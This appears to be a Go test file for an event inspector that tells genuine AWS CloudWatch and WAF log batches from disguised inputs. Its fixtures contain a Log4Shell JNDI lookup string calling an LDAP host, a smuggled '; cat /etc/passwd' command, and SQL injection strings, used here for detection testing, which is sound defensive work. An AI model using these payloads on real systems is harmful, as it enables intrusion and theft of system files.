package inspect

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"testing"
)

// subscription is a batch of CloudWatch Logs with a line, and with further members.
func subscription(line, more string) string {
	quoted, _ := json.Marshal(line)
	return fmt.Sprintf(`{"messageType":"DATA_MESSAGE","owner":"210987654321","logGroup":"/var/log/cron","logStream":"web1","subscriptionFilters":["all"],"logEvents":[{"id":"3819","timestamp":1778480000000,"message":%s%s}]}`, quoted, more)
}

func recorded(data string) string {
	return `{"Records":[{"kinesis":{"kinesisSchemaVersion":"1.0","partitionKey":"1","sequenceNumber":"49","data":"` + data + `","approximateArrivalTimestamp":1778480000.1},"eventSource":"aws:kinesis","eventVersion":"1.0","eventID":"shardId-000000000000:49","eventName":"aws:kinesis:record","invokeIdentityArn":"arn:aws:iam::210987654321:role/x","awsRegion":"eu-central-1","eventSourceARN":"arn:aws:kinesis:eu-central-1:210987654321:stream/logs"}]}`
}

func delivery(name, data string) string {
	return `{"invocationId":"3f","deliveryStreamArn":"arn:aws:firehose:eu-central-1:210987654321:deliverystream/` + name + `","region":"eu-central-1","records":[{"recordId":"49","approximateArrivalTimestamp":1778480000,"data":"` + data + `"}]}`
}

const (
	cronLine   = "May 11 07:17:01 web1 CRON[900]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"
	lookupLine = "agent: ${jndi:ldap://203.0.113.9/a}"
)

func TestABatchOfCloudWatchLogsInAStreamIsALog(t *testing.T) {
	for _, line := range []string{cronLine, `type=EXECVE msg=audit(1778480000.123:811): a0="cat" a1="/etc/passwd"`, `STATEMENT: select * from users where name = '' or 1=1 --'`} {
		data := packed(subscription(line, ""))
		for _, event := range []string{recorded(data), delivery("lake", data)} {
			if v, _ := judge(t, patient(), event); v.Action != Pass || !v.Clean() {
				t.Errorf("%s: %s %s %+v", line, v.Source, v.Action, v.Matches)
			}
		}
	}
}

func TestWhatOnlyLooksLikeABatchOfCloudWatchLogsIsNone(t *testing.T) {
	plain := base64.StdEncoding.EncodeToString([]byte(subscription(cronLine, "")))
	for name, event := range map[string]string{
		"a lookup":             recorded(packed(subscription(lookupLine, ""))),
		"another member":       recorded(packed(subscription("ok", `,"command":"; cat /etc/passwd"`))),
		"another document":     recorded(packed(`{"messageType":"DATA_MESSAGE","logEvents":[{"message":"; cat /etc/passwd"}]}`)),
		"no compression":       recorded(plain),
		"twice compressed":     recorded(packed(packed(subscription(cronLine, "")))),
		"a message of a queue": queue(packed(subscription(cronLine, ""))),
		"a body":               functionURL("/", "", "application/octet-stream", packed(subscription(cronLine, "")), true),
		"a payload":            `{"data":"` + packed(subscription(cronLine, "")) + `"}`,
	} {
		if v, _ := judge(t, patient(), event); v.Clean() || v.Score < 5 {
			t.Errorf("%s: %s %s %+v", name, v.Source, v.Action, v.Matches)
		}
	}
}

func TestWhatADeliveryStreamOfAWSWAFHoldsIsALog(t *testing.T) {
	data := func(args string) string {
		return base64.StdEncoding.EncodeToString([]byte(`{"timestamp":1778480000000,"action":"BLOCK","terminatingRuleId":"sqli","httpRequest":{"clientIp":"203.0.113.7","uri":"/.git/config","args":"` + args + `"}}`))
	}
	const attack = "id=1' or 1=1 -- "
	if v, _ := judge(t, patient(), delivery("aws-waf-logs-shop", data(attack))); !v.Clean() {
		t.Errorf("%s %+v", v.Action, v.Matches)
	}
	for name, event := range map[string]string{"a lookup": delivery("aws-waf-logs-shop", data(lookupLine)), "another stream": delivery("not-aws-waf-logs-shop", data(attack))} {
		if v, _ := judge(t, patient(), event); v.Clean() {
			t.Errorf("%s is clean", name)
		}
	}
}
